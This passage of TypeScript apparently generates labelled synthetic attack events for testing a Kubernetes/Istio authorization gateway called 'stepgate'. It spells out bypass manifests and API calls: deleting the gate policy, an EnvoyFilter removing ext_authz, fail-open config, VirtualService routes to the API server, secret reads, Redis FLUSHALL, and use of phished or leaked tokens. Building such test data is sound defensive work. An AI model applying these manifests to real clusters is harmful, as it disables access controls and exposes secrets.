    apiVersion: 'networking.istio.io/v1alpha3',
    kind: 'EnvoyFilter',
    metadata: { name: 'gateway-perf-tuning', namespace: 'istio-system' },
    spec: {
      workloadSelector: { labels: { istio: 'ingressgateway' } },
      configPatches: [{ applyTo: 'HTTP_FILTER', match: { context: 'GATEWAY', listener: { filterChain: { filter: { name: 'envoy.filters.network.http_connection_manager', subFilter: { name: 'envoy.filters.http.ext_authz' } } } } }, patch: { operation: 'REMOVE' } }],
    },
  });
  const wasm = JSON.stringify({
    apiVersion: 'extensions.istio.io/v1alpha1',
    kind: 'WasmPlugin',
    metadata: { name: 'request-id', namespace: 'istio-system' },
    spec: { selector: { matchLabels: { istio: 'ingressgateway' } }, url: 'oci://ghcr.io/req-id/wasm:1.0.3', phase: 'AUTHN', priority: 1000, pluginConfig: { header: 'x-request-id' } },
  });
  const meshFailOpen = JSON.stringify({ data: { mesh: 'extensionProviders:\n- name: stepgate\n  envoyExtAuthzGrpc:\n    service: stepgate.stepgate.svc.cluster.local\n    port: 9191\n    timeout: 1ms\n    failOpen: true\n' } });
  const bypassVs = (ns: string) =>
    JSON.stringify({
      apiVersion: 'networking.istio.io/v1',
      kind: 'VirtualService',
      metadata: { name: 'healthz-compat', namespace: ns },
      spec: {
        hosts: [API_HOST],
        gateways: ['istio-system/kube-apiserver'],
        http: [{ match: [{ uri: { prefix: '/.stepgate/k/' } }], rewrite: { uri: '/' }, route: [{ destination: { host: 'kubernetes.default.svc.cluster.local', port: { number: 443 } } }] }],
      },
    });
  const bypassDr = (ns: string) =>
    JSON.stringify({ apiVersion: 'networking.istio.io/v1', kind: 'DestinationRule', metadata: { name: 'kube-tls', namespace: ns }, spec: { host: 'kubernetes.default.svc.cluster.local', trafficPolicy: { tls: { mode: 'SIMPLE', insecureSkipVerify: true } } } });
  const bypassRoute = (ns: string) =>
    JSON.stringify({
      apiVersion: 'gateway.networking.k8s.io/v1',
      kind: 'HTTPRoute',
      metadata: { name: 'status-page', namespace: ns },
      spec: { parentRefs: [{ name: 'public-gw', namespace: 'istio-ingress' }], hostnames: [API_HOST], rules: [{ matches: [{ path: { type: 'PathPrefix', value: '/.stepgate/s/' } }], filters: [{ type: 'URLRewrite', urlRewrite: { path: { type: 'ReplacePrefixMatch', replacePrefixMatch: '/' } } }], backendRefs: [{ name: 'kubernetes', namespace: 'default', port: 443 }] }] },
    });
  const json = { 'content-type': 'application/json' };

  const app1 = by('app-1');
  const app2 = by('app-2');
  const plat0 = by('platform-0');
  const plat1 = by('platform-1');

  // 1. Malware on an app engineer's laptop deletes the CUSTOM AuthorizationPolicy: from then on the
  // gateway forwards every request to the API server without asking stepgate.
  onLaptop('gate policy deleted (app laptop)', app1, 11.3, [['DELETE', AP, true]], 1000);
  // 2. The same on a platform engineer's laptop, who works in istio-system every day: the policy
  // patched so that it matches one path nobody uses (still CUSTOM, still "there").
  onLaptop('gate policy patched (platform laptop)', plat0, 11.6, [['GET', AP, false], ['PATCH', `${AP}?fieldManager=kubectl-edit`, true, { 'content-type': 'application/merge-patch+json' }, gateOff]], 3000);
  // 3. An EnvoyFilter that removes ext_authz from the gateway's filter chain, from the platform
  // engineer's laptop.
  onLaptop('EnvoyFilter removing ext_authz (platform laptop)', plat1, 13.7, [['POST', '/apis/networking.istio.io/v1alpha3/namespaces/istio-system/envoyfilters', true, json, envoyFilter]], 1000);
  // 4. A WasmPlugin in the AUTHN phase of the gateway (before ext_authz), from an app laptop.
  onLaptop('WasmPlugin ahead of ext_authz (app laptop)', app2, 14.1, [['POST', '/apis/extensions.istio.io/v1alpha1/namespaces/istio-system/wasmplugins', true, json, wasm]], 1000);
  // 5. The mesh ConfigMap: stepgate's provider with failOpen and a 1 ms timeout, from the platform laptop.
  onLaptop('mesh config failOpen (platform laptop)', plat0, 15.6, [['GET', '/api/v1/namespaces/istio-system/configmaps/istio', false], ['PATCH', '/api/v1/namespaces/istio-system/configmaps/istio?fieldManager=kubectl-patch', true, { 'content-type': 'application/merge-patch+json' }, meshFailOpen]], 4000);
  // 6. stepgate's own namespace, from an app laptop: its ConfigMap (policy.default for everything),
  // its Deployment (another image), its Secrets (cookie and session keys), a shell in its Redis.
  const app3 = by('app-3');
  onLaptop("stepgate's ConfigMap rewritten (app laptop)", app3, 10.8, [
    ['GET', '/api/v1/namespaces/stepgate/configmaps/stepgate', false],
    ['PATCH', '/api/v1/namespaces/stepgate/configmaps/stepgate?fieldManager=kubectl-edit', true, { 'content-type': 'application/merge-patch+json' }, JSON.stringify({ data: { 'stepgate.yaml': 'policy:\n  default: { require: aal1 }\n  rules: []\n' } })],
  ], 5000);
  const app5 = by('app-5');
  onLaptop("stepgate's Deployment given another image (app laptop)", app5, 13.4, [
    ['PATCH', '/apis/apps/v1/namespaces/stepgate/deployments/stepgate?fieldManager=kubectl-set', true, { 'content-type': 'application/strategic-merge-patch+json' }, JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'stepgate', image: 'ghcr.io/stepgate-mirror/stepgate:0.9.1' }] } } } })],
  ], 1000);
  const app6 = by('app-6');
  onLaptop("stepgate's Secrets read (app laptop)", app6, 15.1, [['GET', '/api/v1/namespaces/stepgate/secrets', true], ['GET', '/api/v1/namespaces/stepgate/secrets/stepgate-keys', true]], 3000);
  const app7 = by('app-7');
  onLaptop("a shell in stepgate's Redis (app laptop)", app7, 16.2, [
    ['GET', '/api/v1/namespaces/stepgate/pods/stepgate-redis-0', false],
    ['GET', '/api/v1/namespaces/stepgate/pods/stepgate-redis-0/exec?command=redis-cli&command=FLUSHALL&stdout=true&stderr=true', true, WS_UPGRADE],
  ], 2000);
  // 7. Routing around the gate: a VirtualService in the victim's own dev namespace, bound to the
  // kube gateway, sending `/.stepgate/k/…` (exempt from the CUSTOM policy) to the API server, with
  // a DestinationRule for its TLS. Every request through it afterwards skips stepgate.
  const app0 = by('app-0');
  const ns0 = `${app0.svc}-dev`;
  onLaptop('VirtualService routing /.stepgate/ to the API server (app laptop)', app0, 14.8, [
    ['POST', `${ISTIO}/namespaces/${ns0}/destinationrules`, true, json, bypassDr(ns0)],
    ['POST', `${ISTIO}/namespaces/${ns0}/virtualservices`, true, json, bypassVs(ns0)],
  ], 4000);
  // …and the same with Gateway API, on the public gateway (which admits routes from every namespace).
  const app4 = by('app-4');
  const ns4 = `${app4.svc}-staging`;
  onLaptop('HTTPRoute for the API host on the public gateway (app laptop)', app4, 11.9, [['POST', `${GATEWAY_API}/namespaces/${ns4}/httproutes`, true, json, bypassRoute(ns4)]], 1000);
  // 8. A fresh token phished from a platform engineer (an adversary-in-the-middle page at 09:55,
  // two factors), used from a VPS: the gate policy deleted first.
  const aitm: Login = { sub: plat1.name, sid: `${plat1.name}:aitm`, authTime: Math.floor(L(9.9) / 1000), acr: 'urn:stepgate:aal2' };
  add('fresh platform token from a VPS deletes the gate', L(9.9) + 3 * M, '45.137.21.9', KUBECTL(plat1.kubectlVersion, plat1.kubectlOs), aitm, [['GET', `${SECURITY}/namespaces/istio-system/authorizationpolicies`, false], ['DELETE', AP, true]], 5000);
  // 9. The same for an app engineer, whose token then creates the bypassing VirtualService in their own namespace.
  const aitm2: Login = { sub: app2.name, sid: `${app2.name}:aitm`, authTime: Math.floor(L(12.2) / 1000), acr: 'urn:stepgate:aal2' };
  const ns2 = `${app2.svc}-dev`;
  add('fresh app token from a VPS binds a VirtualService to the kube gateway', L(12.2) + 2 * M, '45.137.21.9', KUBECTL(app2.kubectlVersion, app2.kubectlOs), aitm2, [['GET', `${ISTIO}/namespaces/${ns2}/virtualservices`, false], ['POST', `${ISTIO}/namespaces/${ns2}/virtualservices`, true, json, bypassVs(ns2)]], 5000);
  // 10. The CI service account's token, leaked from a pipeline log, used from outside: the bypassing
  // VirtualService in the staging namespace CI deploys to, and an EnvoyFilter in istio-system.
  const ci: Login = { sub: 'system:serviceaccount:ci:deployer', sid: '', authTime: undefined, acr: 'urn:stepgate:aal1', serviceAccount: true };
  add('leaked CI token binds a VirtualService to the kube gateway', L(13.2), '185.225.73.40', 'kubectl/v1.32.4 (linux/amd64) kubernetes/59526cd', ci, [['POST', `${ISTIO}/namespaces/orders-staging/virtualservices`, true, json, bypassVs('orders-staging')]], 1000);
  add('leaked CI token adds an EnvoyFilter', L(13.3), '185.225.73.40', 'kubectl/v1.32.4 (linux/amd64) kubernetes/59526cd', ci, [['POST', '/apis/networking.istio.io/v1alpha3/namespaces/istio-system/envoyfilters', true, json, envoyFilter]], 1000);
  // 11. Argo CD told to deploy an attacker's repository into istio-system (an Application whose
  // manifests delete the gate), through its CLI from the GitOps engineer's laptop.
  const go = by('gitops');
  const vg = last(go, L(12.9));
  add("an Argo CD Application from the attacker's repository", L(12.9), vg.ip, ARGOCD_CLI(go.kubectlOs), vg.login, [
    ['POST', '/application.ApplicationService/List', false, GRPC_WEB, '\u0000\u0000\u0000\u0000\u0000', 'argocd.localhost'],
    ['POST', '/application.ApplicationService/Create', true, GRPC_WEB, '\u0000\u0000\u0000\u0000\u0060\n\u000bmesh-tuning\u0012\u0030https://github.com/mesh-tuning/istio-perf.git\u001a\u000cistio-system', 'argocd.localhost'],
  ], 3000, go);
  // 12. The ingress gateway's Envoy admin port through a port-forward from an app laptop
  // (`/logging?level=trace` logs every request's headers, tokens included; `/quitquitquit`).
  onLaptop("port-forward to the ingress gateway's Envoy admin (app laptop)", app3, 16.5, [
    ['GET', '/api/v1/namespaces/istio-system/pods/istio-ingressgateway-5c7d8f9b6-m2v7t', false],
    ['POST', '/api/v1/namespaces/istio-system/pods/istio-ingressgateway-5c7d8f9b6-m2v7t/portforward', true, SPDY],
  ], 2000);
  // 13. Another team's production mesh policy opened: an ALLOW-all AuthorizationPolicy in a
  // namespace the victim does not work in.
  const otherNs = `${SERVICES[(app1.idx + 2) % 4]}-prod`;
  onLaptop("ALLOW-all in another team's production namespace (app laptop)", app1, 15.9, [
    ['POST', `${SECURITY}/namespaces/${otherNs}/authorizationpolicies`, true, json, JSON.stringify({ apiVersion: 'security.istio.io/v1', kind: 'AuthorizationPolicy', metadata: { name: 'allow-all', namespace: otherNs }, spec: { action: 'ALLOW', rules: [{}] } })],
  ], 1000);
  return out;
}
